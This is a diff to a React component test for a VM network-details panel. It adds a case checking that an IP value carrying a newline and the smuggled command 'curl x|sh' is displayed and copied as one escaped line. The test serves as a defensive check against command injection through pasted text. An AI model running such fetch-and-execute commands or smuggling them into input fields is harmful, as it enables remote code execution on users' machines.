@@ -1,4 +1,5 @@
 import { render, screen } from "@testing-library/react";
+import userEvent from "@testing-library/user-event";
 import type { VmNetwork } from "../api/vm-schema";
 import { exampleVmParts } from "@/testing/factories/vm-parts";
 import { NetworkDetails } from "./network-details";
@@ -84,5 +85,19 @@ describe("NetworkDetails", () => {
     );
     expect(facts()).toMatchObject({ "Public IP": "2001:db8::1", Region: hostile });
     expect(container.querySelector("img")).toBeNull();
+  });
+
+  it("shows and copies an IP holding a newline and a command as one line with escapes", async () => {
+    const user = userEvent.setup();
+    render(
+      <NetworkDetails
+        network={{ ports: [], publicIp: "1.2.3.4\ncurl x|sh\n", privateIp: "10.0.1.2" }}
+      />,
+    );
+    expect(facts()).toMatchObject({ "Public IP": "1.2.3.4\\ncurl x|sh\\n" });
+    await user.click(screen.getByRole("button", { name: "Copy public IP" }));
+    expect(await navigator.clipboard.readText()).toBe("1.2.3.4\\ncurl x|sh\\n");
+    await user.click(screen.getByRole("button", { name: "Copy private IP" }));
+    expect(await navigator.clipboard.readText()).toBe("10.0.1.2");
   });
 });
